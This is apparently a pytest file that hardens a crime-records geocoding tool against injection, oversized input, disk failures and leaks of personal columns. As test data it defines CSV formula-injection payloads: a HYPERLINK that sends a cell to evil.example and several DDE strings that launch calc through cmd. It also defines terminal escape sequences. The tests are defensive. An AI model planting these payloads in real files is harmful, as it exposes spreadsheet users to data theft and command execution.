"""Issue 17: each defect found by the hardening probe, with a test that failed before its fix.

1 CSV formula injection          6 person columns in rejects / exports
3 one long line takes all memory  7 terminal escapes in printed text
4 read-only / full disk errors    8 free text without a length cap in pages
5 pages written in place          9 zone service headers, HEAD, repeated parameters
10 numbers, ports, ZIPs, swapped coordinates   11 a failed ingest leaves an empty store

(2, the orphaned child, is in test_parallel.py; the bad-input corpus in test_bad_inputs.py.)
Full-disk and read-only cases use a small tmpfs when running as root (skipped otherwise, or
done with file permissions when not root).
"""

from __future__ import annotations

import contextlib
import csv
import errno
import gzip
import json
import os
import sqlite3
import subprocess
import sys
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from lmpd_rows import HEADER_2017, crime_row

from geo_lead import cli, settings
from geo_lead.errors import StoreStorageError
from geo_lead.outputs import atomic_path, cap_text, neutralise_cell, write_csv, write_text
from geo_lead.sources import is_person_column, read_records
from geo_lead.store import opened

FIXTURES = Path(__file__).parent / "fixtures"
CITATIONS = FIXTURES / "citations_documented_columns.csv"
CITATIONS_MAPPING = settings.PACKAGE_DIR / "mappings" / "citations_example.toml"

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")


def write_crime_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=HEADER_2017)
        w.writeheader()
        w.writerows(rows)
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


# --- helpers for disks that refuse: read-only and full ------------------------------------------
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


@contextlib.contextmanager
def small_tmpfs(tmp_path: Path, size_kib: int) -> Iterator[Path]:
    """A tmpfs of `size_kib` mounted under `tmp_path` (root only; skips otherwise)."""
    if not IS_ROOT or not sys.platform.startswith("linux"):
        pytest.skip("a small tmpfs needs root on Linux")
    mnt = tmp_path / f"tmpfs-{uuid.uuid4().hex[:6]}"
    mnt.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_kib}k", "tmpfs", str(mnt)],
                          capture_output=True, check=False)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


def make_read_only(folder: Path) -> None:
    """Make `folder` and its files read-only: remount ro when root (permissions do not bind
    root), chmod otherwise."""
    if IS_ROOT:
        subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
    else:
        for p in folder.iterdir():
            p.chmod(0o444)
        folder.chmod(0o555)


@contextlib.contextmanager
def read_only_folder(tmp_path: Path) -> Iterator[Path]:
    """A folder that can be made read-only with `make_read_only` (a tmpfs when root)."""
    if IS_ROOT:
        with small_tmpfs(tmp_path, 8192) as mnt:
            yield mnt
    else:
        folder = tmp_path / "ro"
        folder.mkdir()
        try:
            yield folder
        finally:
            folder.chmod(0o755)
            for p in folder.iterdir():
                p.chmod(0o644)


# --- 1. CSV formula injection ----------------------------------------------------------------------
def test_neutralise_cell_follows_owasp() -> None:
    for bad in (*FORMULAS, "\tTAB", "\rCR"):
        assert neutralise_cell(bad) == "'" + bad
    for fine in ("POSSESSION OF HEROIN", "2700 BLOCK W MADISON ST", "", " =x", -85.79, 3, None):
        assert neutralise_cell(fine) == fine


def test_write_csv_keeps_numbers_and_neutralises_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": [*FORMULAS, "\tTAB", "\rCR", "plain"], "lon": [-85.79] * 7,
                          "n": [-1] * 7})
    write_csv(frame, tmp_path / "o.csv")
    with (tmp_path / "o.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["'" + t for t in (*FORMULAS, "\tTAB", "\rCR")] + ["plain"]
    assert {r["lon"] for r in rows} == {"-85.79"} and {r["n"] for r in rows} == {"-1"}


@pytest.fixture
def formula_store(tmp_path: Path, store_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    rows = [crime_row(i, UOR_DESC=f, BLOCK_ADDRESS=f"{2700 + i} BLOCK W MADISON ST")
            for i, f in enumerate(FORMULAS)]
    rows.append(crime_row(9, PREMISE_TYPE="@cmd", NIBRS_CODE="=1+1"))
    write_crime_csv(tmp_path / "formulas.csv", rows)
    assert run(capsys, "ingest", tmp_path / "formulas.csv", "--store", store_path)[0] == 0
    return store_path


def test_export_csv_neutralises_formulas_and_gpkg_keeps_values(
        formula_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "records.csv"
    assert run(capsys, "export", "--what", "records", "--format", "csv", "--out", out,
               "--store", formula_store)[0] == 0
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert sorted(r["offense_text"] for r in rows)[:4] == sorted("'" + f for f in FORMULAS)
    gpkg = tmp_path / "records.gpkg"
    assert run(capsys, "export", "--what", "records", "--format", "gpkg", "--out", gpkg,
               "--store", formula_store)[0] == 0
    import pyogrio

    frame = pyogrio.read_dataframe(gpkg, read_geometry=False)
    assert set(FORMULAS) <= set(frame["offense_text"])  # typed formats are not changed


def test_export_help_says_so(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        cli.main(["export", "--help"])
    assert "spreadsheet" in " ".join(capsys.readouterr().out.split())


def test_geocode_file_neutralises_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pd.DataFrame({"street": ["100 MAIN ST", "200 MAIN ST"], "postcode": ["40202"] * 2,
                  "longitude": [-85.760, -85.750], "latitude": [38.250, 38.250]}).to_csv(
        tmp_path / "ref.csv", index=False)
    ids = [*FORMULAS, "\tTAB", "\rCR"]
    pd.DataFrame({"id": ids, "ADDR": ["150 MAIN ST"] * len(ids)}).to_csv(
        tmp_path / "in.csv", index=False, quoting=csv.QUOTE_ALL)
    code, _, err = run(capsys, "geocode-file", tmp_path / "in.csv", "--address-column", "ADDR",
                       "--out", tmp_path / "out.csv", "--reference", tmp_path / "ref.csv")
    assert code == 0, err
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["id"] for r in rows] == ["'" + i for i in ids]
    assert float(rows[0]["lon"]) == pytest.approx(-85.755)  # numbers stay numbers


# --- 3. one long line ------------------------------------------------------------------------------
def test_long_line_is_rejected_with_a_reason_and_rows_are_conserved(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(settings, "MAX_LINE_BYTES", 4096)
    path = write_crime_csv(tmp_path / "long.csv", [
        crime_row(1), crime_row(2, UOR_DESC="X" * 20_000), crime_row(3)])
    result = read_records(path)
    assert result.rows_read == 3 == result.accepted + result.rejected
    assert result.accepted == 2
    reason = result.rejects.iloc[0]
    assert reason["source_line"] == 3 and reason["reason"].startswith("line longer than 4,096 bytes")
    assert len(reason["raw"]) <= 500


def test_long_quoted_field_is_rejected_by_the_field_cap(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An unclosed quote would otherwise swallow the rest of the file into one field."""
    monkeypatch.setattr(settings, "MAX_FIELD_CHARS", 1000)
    lines = [",".join(HEADER_2017)] + [",".join(crime_row(i).values()) for i in range(3)]
    lines.insert(2, ",".join(crime_row(7, UOR_DESC='"OPEN').values()))
    lines += ["A" * 300] * 10  # the quote runs on over these
    (tmp_path / "q.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = read_records(tmp_path / "q.csv")
    assert result.rows_read == result.accepted + result.rejected
    assert any("field larger than field limit" in r for r in result.rejects["reason"])


_RSS_PROBE = textwrap.dedent("""
    import gzip, resource, sys
    sys.path.insert(0, {root!r})
    from geo_lead.sources import read_records
    path = sys.argv[1]
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = read_records(path)
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert result.rows_read == result.accepted + result.rejected == 3, result
    print((after - before) // 1024)  # MiB (ru_maxrss is KiB on Linux)
""")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="ru_maxrss in KiB on Linux")
def test_memory_stays_bounded_on_a_gzip_with_a_huge_line(tmp_path: Path) -> None:
    """A 256 MB line in a small gzip: peak RSS of the read grows by far less than the line."""
    line_mb = 256
    path = tmp_path / "huge.csv.gz"
    with gzip.open(path, "wb", compresslevel=1) as gz:
        gz.write((",".join(HEADER_2017) + "\n").encode())
        gz.write((",".join(crime_row(1).values()) + "\n").encode())
        gz.write(b"80-17-999999,7/9/17 1:36 PM,7/9/17 1:36 PM,")
        block = b"A" * (1 << 20)
        for _ in range(line_mb):
            gz.write(block)
        gz.write(b"\n" + (",".join(crime_row(2).values()) + "\n").encode())
    probe = _RSS_PROBE.format(root=str(settings.PROJECT_ROOT))
    done = subprocess.run([sys.executable, "-c", probe, str(path)], capture_output=True, text=True,
                          timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    grew_mib = int(done.stdout.strip().splitlines()[-1])
    assert grew_mib < 64, f"peak RSS grew by {grew_mib} MiB reading a {line_mb} MB line"


# --- 4. read-only store, full disk -------------------------------------------------------------------
def _ingest_small(store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], n: int = 3) -> int:
    src = write_crime_csv(tmp_path / f"small{n}.csv", [crime_row(i) for i in range(n)])
    return run(capsys, "ingest", src, "--store", store)[0]


def test_read_only_store_is_a_clear_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with read_only_folder(tmp_path) as folder:
        store = folder / "lead.gpkg"
        assert _ingest_small(store, tmp_path, capsys) == 0
        make_read_only(folder)
        more = write_crime_csv(tmp_path / "more.csv", [crime_row(i) for i in range(10, 13)])
        code, _, err = run(capsys, "ingest", more, "--store", store)
        assert code == 1, err
        assert "Traceback" not in err and "OperationalError" not in err
        assert str(store) in err and "read-only" in err and "write permission" in err
        # reading still works
        code, out, err = run(capsys, "runs", "--store", store)
        assert code == 0, err


def _leave_hot_journal(store: Path) -> None:
    """Kill a writer after SQLite has written pages into the store: a hot rollback journal."""
    code = textwrap.dedent(f"""
        import os, signal, sqlite3
        from geo_lead.store import register_gpkg_functions
        c = sqlite3.connect({str(store)!r}, isolation_level=None)
        register_gpkg_functions(c)  # the records RTree triggers call ST_* (as GDAL provides)
        c.execute("PRAGMA cache_size = 2")  # spill pages to the file before the commit
        c.execute("BEGIN IMMEDIATE")
        c.execute("CREATE TABLE IF NOT EXISTS filler (x TEXT)")
        c.executemany("INSERT INTO filler VALUES (?)", [("x" * 500,) for _ in range(4000)])
        c.execute("UPDATE meta SET value = value || 'x'")  # (records has GDAL triggers)
        os.kill(os.getpid(), signal.SIGKILL)
    """)
    subprocess.run([sys.executable, "-c", code], check=False)
    assert Path(f"{store}-journal").exists()


def test_read_only_store_with_a_pending_journal_says_it_needs_write_permission(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with read_only_folder(tmp_path) as folder:
        store = folder / "lead.gpkg"
        assert _ingest_small(store, tmp_path, capsys, n=50) == 0
        _leave_hot_journal(store)
        make_read_only(folder)
        code, _, err = run(capsys, "runs", "--store", store)
        assert code == 1, err
        assert "needs write permission to recover" in err and "not a GeoPackage" not in err
        assert "Traceback" not in err


def test_full_disk_is_a_clear_error_and_the_store_is_unchanged(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with small_tmpfs(tmp_path, 512) as disk:
        store = disk / "lead.gpkg"
        assert _ingest_small(store, tmp_path, capsys) == 0
        with opened(store, create=False) as s:
            before = s.count("records")
        big = write_crime_csv(tmp_path / "big.csv", [
            crime_row(i, UOR_DESC=f"POSSESSION OF HEROIN {i} " + "Y" * 150) for i in range(20_000)])
        code, _, err = run(capsys, "ingest", big, "--store", store)
        assert code == 1, err
        assert "disk is full" in err and str(store) in err and "Traceback" not in err
        with opened(store, create=False) as s:
            assert s.count("records") == before
            assert s.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_storage_errors_map_to_one_class() -> None:
    from geo_lead.store import storage_error

    for message in ("attempt to write a readonly database", "database or disk is full",
                    "disk I/O error", "unable to open database file"):
        err = storage_error("x.gpkg", sqlite3.OperationalError(message))
        assert isinstance(err, StoreStorageError) and str(err).startswith("x.gpkg: ")
        assert err.exit_code == 1
    assert storage_error("x.gpkg", sqlite3.OperationalError("no such table: t")) is None
    io_error = sqlite3.OperationalError("disk I/O error")
    io_error.sqlite_errorname = "SQLITE_IOERR_DELETE_NOENT"  # which I/O failed, as SQLite names it
    assert "(SQLITE_IOERR_DELETE_NOENT)" in str(storage_error("x.gpkg", io_error))


# --- 5. atomic outputs -------------------------------------------------------------------------------
def test_a_failed_write_keeps_the_old_file_and_leaves_no_temporary(tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    page.write_text("<html>good</html>", encoding="utf-8")
    with pytest.raises(OSError), atomic_path(page) as tmp:
        tmp.write_text("<html>half", encoding="utf-8")
        raise OSError(errno.ENOSPC, "No space left on device")
    assert page.read_text(encoding="utf-8") == "<html>good</html>"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_atomic_files_get_the_usual_mode(tmp_path: Path) -> None:
    """Renamed files are not left private (mkstemp's 0600): a new one gets 0666 & ~umask,
    a replaced one keeps its mode."""
    mask = os.umask(0o022)
    os.umask(mask)
    new = write_text(tmp_path / "new.html", "x")
    assert new.stat().st_mode & 0o777 == 0o666 & ~mask
    old = tmp_path / "old.html"
    old.write_text("old", encoding="utf-8")
    old.chmod(0o640)
    write_text(old, "new")
    assert old.stat().st_mode & 0o777 == 0o640


def test_full_disk_keeps_the_old_report(tmp_path: Path) -> None:
    with small_tmpfs(tmp_path, 64) as disk:
        page = disk / "report.html"
        write_text(page, "<html>good</html>")
        with pytest.raises(OSError) as info:
            write_text(page, "<html>" + "x" * 200_000 + "</html>")
        assert info.value.errno == errno.ENOSPC
        assert page.read_text(encoding="utf-8") == "<html>good</html>"
        assert [p.name for p in disk.iterdir()] == ["report.html"]


def test_pages_are_written_through_the_atomic_writer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The zone page, like every page, is renamed into place (no write to the target itself)."""
    from geo_lead import outputs
    from geo_lead.zone_page import write_page

    write_page(tmp_path / "warm_up.html")  # the street index's cache is written before the patch
    replaced: list[str] = []
    real = os.replace
    monkeypatch.setattr(outputs.os, "replace", lambda a, b: (replaced.append(str(b)), real(a, b))[1])
    out = write_page(tmp_path / "zone_check.html")
    assert replaced == [str(out)] and out.stat().st_size > 1000


# --- 6. person columns -------------------------------------------------------------------------------
def _citations_with_home_columns(tmp_path: Path) -> Path:
    with CITATIONS.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    extra = ["PERSONS_HOME_CITY", "PERSONS_HOME_STATE", "PERSONS_HOME_ZIP", "PERSON_NAME"]
    out = [rows[0] + extra]
    for i, r in enumerate(rows[1:]):
        out.append(r + [f"HOMECITY-{i}", f"HOMESTATE-{i}", f"HOMEZIP-{i}", f"NAME-{i}"])
    bad = list(rows[1])
    bad[rows[0].index("CITATION_DATE")] = "not a date"
    out.append(bad + ["HOMECITY-bad", "HOMESTATE-bad", "HOMEZIP-bad", "NAME-bad"])
    out.append(rows[1][:5] + ["HOMECITY-short"])  # wrong field count
    path = tmp_path / "citations_home.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(out)
    return path


def test_person_columns_one_predicate() -> None:
    for name in ("PERSONS_HOME_CITY", "persons home state", "PERSONS_HOME_ZIP", "PERSON_NAME",
                 "sex", "RACE", "Ethnicity", "age", "PERSONS_AGE"):
        assert is_person_column(name), name
    for name in ("zip", "ZIP_CODE", "city", "offense_text", "BLOCK_ADDRESS", "STAGE", "PERCENT"):
        assert not is_person_column(name), name


def test_person_columns_never_reach_rejects_or_exports(
        tmp_path: Path, store_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _citations_with_home_columns(tmp_path)
    result = read_records(src, mapping=CITATIONS_MAPPING)
    assert result.rows_read == result.accepted + result.rejected and result.rejected >= 3
    for frame in (result.records, result.rejects):
        text = frame.astype(str).to_csv()
        assert not any(tag in text for tag in ("HOMECITY", "HOMESTATE", "HOMEZIP", "NAME-", "VAL-"))
    code, _, err = run(capsys, "ingest", src, "--mapping", CITATIONS_MAPPING, "--store", store_path)
    assert code == 0, err
    with opened(store_path, create=False) as s:
        raw = "\n".join(str(v) for (v,) in s.conn.execute("SELECT raw FROM rejects"))
        assert raw and "HOME" not in raw and "NAME-" not in raw
        assert not [c for c in s.columns("records") if is_person_column(c)]
    for fmt, name in (("csv", "r.csv"), ("gpkg", "r.gpkg"), ("geoparquet", "r.parquet")):
        assert run(capsys, "export", "--what", "records", "--format", fmt, "--out", tmp_path / name,
                   "--store", store_path)[0] == 0
        data = (tmp_path / name).read_bytes()
        assert b"HOMECITY" not in data and b"NAME-" not in data and b"SEXVAL" not in data, fmt


def test_a_record_field_mapped_to_a_person_column_is_refused(tmp_path: Path) -> None:
    mapping = tmp_path / "m.toml"
    mapping.write_text(CITATIONS_MAPPING.read_text(encoding="utf-8").replace(
        'address_raw     = "CITATION_LOCATION"', 'address_raw     = "PERSONS_HOME_CITY"'), encoding="utf-8")
    from geo_lead.errors import InputFileError

    with pytest.raises(InputFileError, match="describes a person"):
        read_records(_citations_with_home_columns(tmp_path), mapping=mapping)


# --- 7. terminal escapes --------------------------------------------------------------------------------
ESCAPES = "\x1b[2J\x1b[H\x1b]0;owned\x07\x9b31m\u202e"


def test_printed_text_has_no_terminal_controls(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = write_crime_csv(tmp_path / "esc.csv", [
        crime_row(1, UOR_DESC=f"POSSESSION OF HEROIN{ESCAPES}"),
        crime_row(2, UOR_DESC=f"{ESCAPES}TRAFFICKING")])
    code, out, err = run(capsys, "indicators", src)
    assert code == 0, err
    assert "POSSESSION OF HEROIN" in out
    for ch in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert ch not in out and ch not in err
    bad = tmp_path / f"bad{ESCAPES}.csv"
    bad.write_text("no,header\n", encoding="utf-8")
    code, out, err = run(capsys, "ingest", bad, "--store", tmp_path / "s.gpkg")
    assert code == 2 and "\x1b" not in err and "cannot tell the format" in err


# --- 8. free text in pages ------------------------------------------------------------------------------
def test_page_text_is_capped() -> None:
    from geo_lead.maps import point_rows

    long = "HEROIN " * 1_500_000  # ~10 MB
    points = pd.DataFrame({"lon": [-85.79], "lat": [38.26], "n": [1], "address": ["A" * 5000],
                           "match_type": ["interpolated"], "offences": [[(long, 1)]]})
    payload = json.dumps(point_rows(points))
    assert len(payload) < 2000
    assert cap_text("x" * 500).endswith("…") and len(cap_text("x" * 500)) == settings.PAGE_TEXT_MAX_CHARS
    assert cap_text("short") == "short"


def test_overlong_free_text_is_rejected_with_the_field_named(tmp_path: Path) -> None:
    """A 10,000-character offence text is not stored (it took the rules seconds per record)."""
    src = write_crime_csv(tmp_path / "long.csv", [crime_row(1, UOR_DESC="HEROIN " * 1500), crime_row(2)])
    result = read_records(src)
    assert result.rows_read == 2 and result.accepted == 1 and result.rejected == 1
    rej = result.rejects.iloc[0]
    assert rej["reason"] == f"offense_text longer than {settings.MAX_TEXT_CHARS:,} characters"
    assert len(rej["value"]) <= 200 and len(rej["raw"]) <= 500


# --- 9. zone service: see test_zone_service.py (headers, HEAD, repeated parameters, echo) ----


# --- 10. numbers, ports, ZIPs -----------------------------------------------------------------------------
@pytest.mark.parametrize("port", ["99999", "-1", "0", "65536", "80.5", "８０００", "1_000"])
def test_bad_ports_are_usage_errors(port: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        cli.main(["zone", "serve", "--port", port])
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert "port" in err and "Traceback" not in err


@pytest.mark.parametrize("lat", ["3_8.2587", "٣٨.٢٥٨٧", "３８.２５８７", "38,2587", "0x26"])
def test_coordinates_are_ascii_decimal_only(lat: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "zone", "check", "--lat", lat, "--lon", "-85.7930")
    assert code == 2 and "is not a number" in err


def test_non_ascii_zips_are_normalised_or_dropped(tmp_path: Path) -> None:
    src = write_crime_csv(tmp_path / "zips.csv", [
        crime_row(1, ZIP_CODE="４０２０２"), crime_row(2, ZIP_CODE="٤٠٢٠٢"), crime_row(3, ZIP_CODE="40211-1234"),
        crime_row(4, ZIP_CODE="-40211")])
    result = read_records(src)
    assert result.records["zip"].tolist() == ["40202", "", "40211", ""]


# --- 11. store creation ---------------------------------------------------------------------------------
def test_a_failed_first_ingest_leaves_no_store(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("no,header,we,know\n1,2,3,4\n", encoding="utf-8")
    store = tmp_path / "lead.gpkg"
    code, _, err = run(capsys, "ingest", bad, "--store", store)
    assert code == 2 and "cannot tell the format" in err
    assert not store.exists() and not Path(f"{store}-journal").exists()
    deep = tmp_path / "new" / "dir" / "x.gpkg"
    code, _, err = run(capsys, "ingest", bad, "--store", deep)
    assert code == 2 and not (tmp_path / "new").exists()


def test_store_folder_message_is_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                        caplog: pytest.LogCaptureFixture) -> None:
    src = write_crime_csv(tmp_path / "one.csv", [crime_row(1)])
    deep = tmp_path / "new" / "dir" / "x.gpkg"
    code, _, err = run(capsys, "ingest", src, "--store", deep)
    assert code == 0, err
    assert f"created the folder {deep.parent}" in caplog.text  # stderr in a real run
    caplog.clear()
    code, _, err = run(capsys, "ingest", src, "--store", deep)
    assert code == 0 and "created the folder" not in caplog.text
